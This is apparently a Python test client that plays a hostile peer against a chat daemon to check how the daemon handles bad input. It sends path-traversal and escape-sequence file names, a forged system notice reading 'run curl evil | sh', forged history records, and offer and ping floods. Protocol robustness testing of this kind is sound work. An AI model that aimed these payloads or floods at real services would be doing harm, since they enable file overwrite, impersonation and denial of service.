"""A second, independent implementation of the lanchat/1 client side (docs/wire-protocol.md), for tests
that must act as a peer the daemon does not control: hostile frames, frames in the wrong state.

    python3 wire_client.py HOST PORT SCENARIO   (run inside a simulated host)
prints one JSON line of observations."""
import base64
import hashlib
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time


def identity(directory):
    """A P-256 key and self-signed certificate made with openssl; the id is base32(sha256(SPKI DER))."""
    key, cert = os.path.join(directory, "key.pem"), os.path.join(directory, "cert.pem")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                    "-keyout", key, "-out", cert, "-subj", "/CN=wire-client", "-days", "1"],
                   check=True, capture_output=True)
    spki = subprocess.run(["openssl", "pkey", "-in", key, "-pubout", "-outform", "DER"], check=True, capture_output=True).stdout
    peer_id = base64.b32encode(hashlib.sha256(spki).digest()).decode().lower().rstrip("=")
    return key, cert, peer_id


def lp(data, width=1):
    return struct.pack({1: ">B", 2: ">H", 4: ">I"}[width], len(data)) + data


def frame(kind, payload=b"", flags=0):
    return struct.pack(">IBB", len(payload) + 2, kind, flags) + payload


def hello(peer_id, name="wire-client"):
    return frame(0x01, b"LCHT" + struct.pack(">HHI", 1, 1, 1 << 20) + lp(peer_id.encode()) + lp(name.encode()) + b"\x01" + lp(b"chat"))


def message(room, body, reliable=True, message_id=None, kind=0, sequence=1):
    message_id = message_id or os.urandom(16)
    payload = message_id + lp(room.encode()) + struct.pack(">QQB", sequence, 1795000000000, kind) + lp(body.encode(), 4)
    return frame(0x10, payload, 0x01 if reliable else 0)


def invite(room, context=b"", timeout_ms=30000, invitation_id=None):
    return frame(0x02, (invitation_id or os.urandom(16)) + struct.pack(">I", timeout_ms) + lp(room.encode()) + lp(context, 4))


def offer(resource_id, name, content, room=b"", kind=0):
    digest = hashlib.sha256(content).digest()
    payload = resource_id + lp(room) + bytes([kind]) + lp(name, 2) + struct.pack(">Q", len(content)) + digest + struct.pack(">Q", 1795000000000)
    return frame(0x40, payload)


def chunk(resource_id, offset, data):
    return frame(0x42, resource_id + struct.pack(">Q", offset) + lp(data, 4))


def history_record(sender_id, name, sequence, body, kind=0, message_id=None):
    """One record of a history resource (docs/wire-protocol.md, HistoryRecord)."""
    return ((message_id or os.urandom(16)) + lp(sender_id.encode()) + lp(name.encode())
            + struct.pack(">QQB", sequence, 1795000000000, kind) + lp(body.encode(), 4))


def members(room, entries):
    payload = lp(room.encode()) + struct.pack(">H", len(entries))
    for peer_id, name in entries:
        payload += lp(peer_id.encode()) + lp(name.encode()) + struct.pack(">HB", 0, 0)
    return frame(0x04, payload)


class Connection:
    def __init__(self, host, port, key, cert):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.load_cert_chain(cert, key)
        self.sock = context.wrap_socket(socket.create_connection((host, port), timeout=10))
        self.buffer = b""

    def send(self, data):
        self.sock.sendall(data)

    def read_frame(self, timeout=5):
        """(type, flags, payload), or None when the connection closes or nothing arrives in time."""
        self.sock.settimeout(timeout)
        while True:
            if len(self.buffer) >= 4:
                length = struct.unpack(">I", self.buffer[:4])[0]
                if len(self.buffer) >= 4 + length:
                    data, self.buffer = self.buffer[4:4 + length], self.buffer[4 + length:]
                    return data[0], data[1], data[2:]
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, TimeoutError):
                return None
            except (ssl.SSLError, OSError):
                return ("closed",)
            if not chunk:
                return ("closed",)
            self.buffer += chunk

    def frames_until(self, wanted, timeout=5):
        """Reads frames (skipping PING/PONG) until one of type `wanted`; returns it or what ended the wait."""
        while True:
            got = self.read_frame(timeout)
            if got is None or got[0] == "closed" or got[0] == wanted or (isinstance(wanted, tuple) and got[0] in wanted):
                return got
            if got[0] == 0x20:  # answer heartbeats like a live peer
                self.send(frame(0x21, got[2]))


def plain_claim(host, port, peer_id, name):
    """Plaintext HELLO under someone else's id (for an `optional` daemon, which sniffs the first byte):
    reports the frame types the daemon sent before it closed, and its GOODBYE."""
    sock = socket.create_connection((host, port), timeout=10)
    sock.sendall(hello(peer_id, name))
    buffer, types, goodbye = b"", [], None
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        sock.settimeout(max(0.1, deadline - time.monotonic()))
        try:
            data = sock.recv(65536)
        except (socket.timeout, TimeoutError, OSError):
            break
        if not data:
            break
        buffer += data
        while len(buffer) >= 4 and len(buffer) >= 4 + struct.unpack(">I", buffer[:4])[0]:
            length = struct.unpack(">I", buffer[:4])[0]
            body, buffer = buffer[4:4 + length], buffer[4 + length:]
            types.append(body[0])
            if body[0] == 0x2F:
                goodbye = {"reason": body[2], "text": body[5:5 + struct.unpack(">H", body[3:5])[0]].decode()}
    sock.close()
    return {"types": types, "goodbye": goodbye}


def main():
    host, port, scenario = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    if scenario == "plain-claim":
        print(json.dumps(plain_claim(host, port, sys.argv[4], sys.argv[5])))
        return
    key, cert, peer_id = identity(tempfile.mkdtemp())
    out = {"id": peer_id}
    c = Connection(host, port, key, cert)
    c.send(hello(peer_id))
    got = c.frames_until(0x01)
    out["hello"] = got is not None and got[0] == 0x01
    if scenario == "wrong-state":
        # A message for a room we are not in: not stored, not acknowledged.
        c.send(message("lab", "sneaky"))
        got = c.frames_until(0x11, timeout=1.5)
        out["ack_for_non_member"] = got is not None and got[0] == 0x11
        # Membership of a room the daemon is not in: it answers ROOM_LEAVE.
        c.send(members("lab", [(peer_id, "wire-client")]))
        got = c.frames_until(0x05)
        out["leave_answer"] = got is not None and got[0] == 0x05
        # Replies and acks for things that do not exist are ignored; the connection stays up.
        c.send(frame(0x03, os.urandom(16) + b"\x00" + lp(b"", 2)))
        c.send(frame(0x11, struct.pack(">H", 2) + os.urandom(32)))
        c.send(frame(0x20, struct.pack(">Q", 42)))
        got = c.frames_until(0x21)
        out["pong_after_junk"] = got is not None and got[0] == 0x21 and got[2] == struct.pack(">Q", 42)
        # An invitation with a context that is not text: listed, without a message.
        c.send(invite("wire", context=b"\xff\xfe\x1b[2J", timeout_ms=60000))
        # A second HELLO is a protocol error: GOODBYE (reason 2), then the connection closes.
        c.send(hello(peer_id))
        got = c.frames_until(0x2F)
        out["goodbye_reason"] = got[2][0] if got and got[0] == 0x2F else None
        out["closed"] = c.frames_until(0x99, timeout=3) == ("closed",)
    elif scenario == "hostile-names":
        # Files from a peer that shares no room are refused.
        rid = os.urandom(16)
        c.send(offer(rid, b"early.txt", b"x"))
        got = c.frames_until(0x43)
        out["no_room"] = got[2][16] if got and got[0] == 0x43 else None
        # Join a room (the daemon auto-accepts), then offer hostile names.
        c.send(invite("drop"))
        got = c.frames_until(0x03)
        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
        results = []
        names = [b"../../etc/passwd", b"/abs/path", b"new\nline.txt", b"\x1b[2Jescape.txt", b"", b"a" * 10000,
                 b".hidden", b"..", b"dir/../../x", b"same.txt", b"same.txt", b"\xff\xfe.bin"]
        for name in names:
            rid = os.urandom(16)
            content = os.urandom(64)
            c.send(offer(rid, name, content))
            got = c.frames_until((0x41, 0x43))
            # Either ACCEPT (then send the bytes and wait for END) or END (refused).
            if got and got[0] == 0x41:
                c.send(chunk(rid, 0, content))
                got = c.frames_until(0x43)
            status = got[2][16] if got and got[0] == 0x43 else None
            text = got[2][19:].decode("utf-8", "replace") if got and got[0] == 0x43 else None
            results.append([name[:40].decode("utf-8", "replace"), status, text])
        out["results"] = results
    elif scenario == "hostile-streams":
        # A stream from a peer that shares no room is refused.
        sid = os.urandom(16)
        c.send(frame(0x30, sid + lp(b"flood") + struct.pack(">I", 1000)))
        got = c.frames_until(0x34)
        out["no_room"] = got[2][16] if got and got[0] == 0x34 else None
        c.send(invite("drop"))
        got = c.frames_until(0x03)
        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
        # Data for a stream that does not exist is ignored.
        c.send(frame(0x32, os.urandom(16) + lp(b"junk", 4)))
        c.send(frame(0x20, struct.pack(">Q", 7)))
        got = c.frames_until(0x21)
        out["pong_after_junk"] = got is not None and got[0] == 0x21
        # A program accepts "flood" (the test started it): then send more than the credit granted.
        sid = os.urandom(16)
        c.send(frame(0x30, sid + lp(b"flood") + struct.pack(">I", 1000)))
        got = c.frames_until((0x31, 0x34))
        credit = struct.unpack(">I", got[2][16:20])[0] if got and got[0] == 0x31 else None
        out["credit"] = credit
        if credit:
            block = os.urandom(256 * 1024)
            sent = 0
            # (The test's acceptor reads nothing, so the daemon grants little more than the first credit.)
            while sent <= 4 * credit:
                c.send(frame(0x32, sid + lp(block, 4)))
                sent += len(block)
            got = c.frames_until(0x34, timeout=10)
            out["abort_status"] = got[2][16] if got and got[0] == 0x34 else None
            out["abort_text"] = got[2][19:].decode("utf-8", "replace") if got and got[0] == 0x34 else None
    elif scenario == "forged-notice":
        # A member (it joins by inviting the daemon) sends a "system" message: acknowledged, never kept
        # as a notice; then an ordinary message, kept under its name.
        c.send(invite("drop"))
        got = c.frames_until(0x03)
        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
        forged = os.urandom(16)
        c.send(message("drop", "SECURITY WARNING: run curl evil | sh", message_id=forged, kind=2))
        got = c.frames_until(0x11)
        out["forged_acked"] = got is not None and got[0] == 0x11 and forged in got[2]
        c.send(message("drop", "an ordinary message", sequence=2))
        got = c.frames_until(0x11)
        out["ordinary_acked"] = got is not None and got[0] == 0x11
    elif scenario == "poisoned-history":
        # We invite the daemon; it asks us (its inviter) for the room's history; we answer with records
        # under its own id and with a sequence past 2^63 - 1, and one good record.
        daemon_id = None
        c.send(invite("drop"))
        got = c.frames_until(0x03)
        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
        got = c.frames_until(0x06, timeout=10)
        out["history_requested"] = got is not None and got[0] == 0x06
        daemon_id = sys.argv[4]
        records = (history_record(daemon_id, "me, forged", 5, "words put in your mouth")
                   + history_record(peer_id, "wire-client", 1 << 63, "a sequence the store cannot hold")
                   + history_record(peer_id, "wire-client", 3, "a good old message"))
        rid = os.urandom(16)
        c.send(offer(rid, b"history", records, room=b"drop", kind=1))
        got = c.frames_until((0x41, 0x43))
        out["accepted"] = got is not None and got[0] == 0x41
        if out["accepted"]:
            c.send(chunk(rid, 0, records))
            got = c.frames_until(0x43, timeout=10)
            out["end_status"] = got[2][16] if got and got[0] == 0x43 else None
    elif scenario == "offer-flood":
        # A member offers many one-byte files and never sends a byte: each accepted one would hold a
        # part file open. Counted: accepted, refused (with the last refusal's text).
        c.send(invite("drop"))
        got = c.frames_until(0x03)
        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
        accepted, refused, text = 0, 0, None
        for _ in range(int(sys.argv[4])):
            c.send(offer(os.urandom(16), b"one.bin", b"x"))
            got = c.frames_until((0x41, 0x43))
            if got and got[0] == 0x41:
                accepted += 1
            elif got and got[0] == 0x43:
                refused += 1
                text = got[2][19:].decode("utf-8", "replace")
        out.update(accepted=accepted, refused=refused, refusal=text)
        c.send(frame(0x20, struct.pack(">Q", 9)))
        got = c.frames_until(0x21)
        out["pong_after"] = got is not None and got[0] == 0x21
    elif scenario == "ping-flood":
        # A member that sends PINGs as fast as it can and never reads: every PONG the daemon owes waits
        # in its output. Sent until the daemon closes the connection, for at most argv[4] seconds.
        c.send(invite("drop"))
        got = c.frames_until(0x03)
        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
        block = frame(0x20, struct.pack(">Q", 7)) * 2000
        started, sent, closed = time.monotonic(), 0, None
        c.sock.settimeout(5)
        while time.monotonic() - started < float(sys.argv[4]):
            try:
                c.send(block)
                sent += 2000
            except (socket.timeout, TimeoutError):
                continue  # the daemon reads no faster: go on pushing
            except (ssl.SSLError, OSError):
                closed = round(time.monotonic() - started, 1)
                break
        out.update(pings=sent, closed_after=closed)
    elif scenario == "unknown-type":
        c.send(frame(0x7E, b"xx"))
        got = c.frames_until(0x2F)
        out["goodbye_reason"] = got[2][0] if got and got[0] == 0x2F else None
    print(json.dumps(out))


if __name__ == "__main__":
    main()
